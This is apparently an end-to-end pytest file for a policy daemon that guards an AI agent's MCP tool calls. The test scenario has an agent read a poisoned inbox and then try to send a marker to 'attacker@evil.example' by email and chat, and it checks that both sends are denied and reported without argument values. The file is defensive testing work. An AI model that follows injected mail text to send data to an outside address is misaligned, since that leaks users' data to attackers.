"""A review pack from a real session: MCP client → bouncer-shim → fixture servers, bouncerd deciding.

The agent reads a poisoned inbox through the mail server, then tries to send data to the address it
found, through mail and through chat, with a unique marker in the message text. The pack (both
formats) must show the denied destination with where it came from, both servers' tools with their
pins, and the marker nowhere: argument values never reach a report, even though the log holds them.
"""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import anyio
import pytest
from bouncerctl.app import main
from click.testing import CliRunner
from harness import audit_records, connect, fixture_server, shim_params

if TYPE_CHECKING:
    from daemons import RunningDaemon

pytestmark = pytest.mark.e2e

ATTACKER = "attacker@evil.example"
MARKER = "LIVE-ARGUMENT-5b2d77e0"
# Two fixture servers and their shims start in a few seconds; this only turns a hang into a failure.
TEST_TIMEOUT = 60


@pytest.mark.asyncio
async def test_review_pack_of_a_real_session_shows_what_was_stopped_and_no_argument(
    daemon: RunningDaemon, tmp_path: Path
) -> None:
    mail = fixture_server("mail", env={"FIXTURE_OUTBOX": str(tmp_path / "mail.json")})
    chat = fixture_server("chat", env={"FIXTURE_OUTBOX": str(tmp_path / "chat.json")})
    with anyio.fail_after(TEST_TIMEOUT):
        async with (
            connect(shim_params(mail, daemon.home), "legacy") as mail_probe,
            connect(shim_params(chat, daemon.home), "legacy") as chat_probe,
        ):
            await mail_probe.client.list_tools()
            await chat_probe.client.list_tools()
            await mail_probe.client.call_tool("read_inbox", {})
            await chat_probe.client.call_tool("send_dm", {"user": ATTACKER, "text": MARKER})
            await mail_probe.client.call_tool(
                "send_email", {"to": ATTACKER, "subject": "fwd", "body": MARKER}
            )
    records = audit_records(daemon.home)
    assert any(MARKER in str(r.get("arguments")) for r in records)  # the log does hold the value
    denied = [r for r in records if r.get("destination") == ATTACKER and r["verdict"] == "deny"]
    assert {r["server"] for r in denied} == {"mail", "chat"}

    runner = CliRunner()
    env = {"BOUNCER_HOME": str(daemon.home)}
    pages: dict[str, str] = {}
    for fmt in ("md", "html"):
        out = tmp_path / f"pack.{fmt}"
        result: Any = runner.invoke(main, ["report", "-o", str(out)], env=env)
        assert result.exit_code == 0, result.output
        assert "chain intact" in result.stderr
        pages[fmt] = out.read_text(encoding="utf-8")

    for fmt, page in pages.items():
        assert MARKER not in page, fmt
        assert ATTACKER in page and "mail / read_inbox" in page  # denied destination, with provenance
        for tool in ("read_inbox", "send_email", "post_message", "send_dm"):
            assert tool in page, (fmt, tool)
        assert "LLM01:2025" in page and "E015" in page
    md = pages["md"]
    assert "running daemon's pins" in md  # tools came from the live daemon, not the log
    assert "| `send_dm` | pinned |" in md
    assert "| Audit chain | intact," in md
    html = pages["html"]
    assert html.startswith("<!doctype html>") and "<svg" in html and "<script" not in html
